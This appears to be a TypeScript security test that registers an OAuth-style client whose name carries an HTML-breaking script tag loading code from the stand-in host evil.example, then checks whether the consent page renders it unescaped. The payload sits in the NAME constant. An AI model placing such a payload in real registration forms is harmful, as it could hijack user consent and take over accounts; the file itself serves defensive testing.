import { type Card, fell, held, type Outcome } from "../../card.ts";
import { registerClient } from "../../remote/facade-sign-in.ts";
import { confusedDeputy } from "../rules.ts";
import { askedPerson, openRequest } from "../scenes/requests.ts";
import type { Target } from "../../remote/target.ts";
import { asStranger } from "../scenes/targets.ts";

const NAME = `Ledger"><script src="https://evil.example/1.js"></script>`;

/** Whoever registers picks the name. In it: a script that would press "Allow". */
export const nameWithMarkup: Card = {
  id: "ENTRA-3.11",
  task: 2,
  rule: confusedDeputy,
  look: "src/facade/consent-page.ts",
  anywhere: { needs: "url", strike },
  play: async (lab) => strike(await asStranger(lab)),
};

async function strike(target: Target): Promise<Outcome> {
  const client = await registerClient(target.server, { client_name: NAME });
  if (client) {
    const { step } = await openRequest(target, client);
    if (/<script[^>]*evil\.example/i.test(step.text)) return fell("markup");
  }
  await askedPerson(target);
  return held;
}
